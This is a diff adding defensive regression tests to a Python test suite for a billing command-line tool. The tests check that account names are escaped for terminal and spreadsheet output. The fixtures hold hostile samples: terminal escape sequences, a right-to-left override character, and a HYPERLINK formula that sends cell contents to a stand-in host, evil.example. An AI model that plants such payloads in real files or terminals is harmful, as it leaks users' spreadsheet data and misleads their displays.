@@ -37,6 +37,12 @@ class Command(unittest.TestCase):
     def store(self):
         return f"sqlite:{self.folder.name}/store.db"
 
+    def set_name(self, code, name):
+        """A name that the command would refuse, as an older one left it in the store."""
+        with contextlib.closing(sqlite3.connect(f"{self.folder.name}/store.db")) as store:
+            store.execute("update accounts set name = ? where code = ?", (name, code))
+            store.commit()
+
     def run_command(self, *words, stdin=None):
         return subprocess.run([SEATMETER, *words], env=self.environment, capture_output=True, text=True, input=stdin)
 
@@ -110,6 +116,28 @@ class TheCommand(Command):
         margin = self.ask("margin", "show", "--account", "CEDAR", "--month", "2026-10")
         self.assertEqual(margin["totals"][0]["margin"], "92.50")
         self.assertIn("0 violations", self.say("check"))
+
+    def test_what_an_old_store_hides_in_a_name_is_written_out_and_commands_no_terminal(self):
+        self.begin()
+        self.refuse("malformed-text", "account", "add", "--kind", "customer", "--name", "A\x9b31mRED", "--seller", "CEDAR")
+        self.refuse("malformed-text", "account", "edit", "DENTAL", "--name", "\u202eevil")
+        self.set_name("DENTAL", "A\x9b31mRED\x9d0;pwn\x9c\u202e")
+        for words in (["account", "show", "DENTAL"], ["account", "list"]):
+            said = self.say(*words)
+            self.assertIn(r"A\u009B31mRED\u009D0;pwn\u009C\u202E", said)
+            self.assertNotRegex(said, "[\x80-\x9f\u202e]")
+        told = self.say("account", "show", "DENTAL", "--json")
+        self.assertNotRegex(told, "[\x80-\x9f\u202e]")
+        self.assertEqual(json.loads(told)["name"], "A\x9b31mRED\x9d0;pwn\x9c\u202e")
+
+    def test_an_export_for_a_spreadsheet_has_text_where_a_formula_would_be(self):
+        self.begin()
+        self.say("account", "edit", "DENTAL", "--name", '=HYPERLINK("http://evil.example/?"&A1,"x")')
+        self.assertIn(',"=HYPERLINK(', self.say("export", "accounts"))
+        rows = list(csv.DictReader(io.StringIO(self.say("export", "accounts", "--spreadsheet"))))
+        self.assertIn("'=HYPERLINK(", next(row["name"] for row in rows if row["code"] == "DENTAL"))
+        for what in ("skus", "prices", "events", "ledger", "lines"):
+            self.assertNotRegex(self.say("export", what, "--spreadsheet"), '(?m)(^|,)"?[=+@]')
 
     def test_an_invoice_comes_as_text_csv_json_and_pdf(self):
         self.begin()
@@ -402,6 +430,10 @@ class TheCommandOnPostgres(TheCommand):
         subprocess.run(["psql", "-q", "-d", server], text=True, check=True, stderr=subprocess.DEVNULL,
                        input="drop schema if exists command_test cascade; create schema command_test")
         return server + "&options=-csearch_path%3Dcommand_test"
+
+    def set_name(self, code, name):
+        subprocess.run(["psql", "-q", "-v", f"code={code}", "-v", f"name={name}", "-d", self.environment["SEATMETER_DB"]],
+                       text=True, check=True, input="update accounts set name = :'name' where code = :'code'")
 
     def rows(self):
         done = subprocess.run(["psql", "-qAt", "-d", self.environment["SEATMETER_DB"]], text=True, check=True,
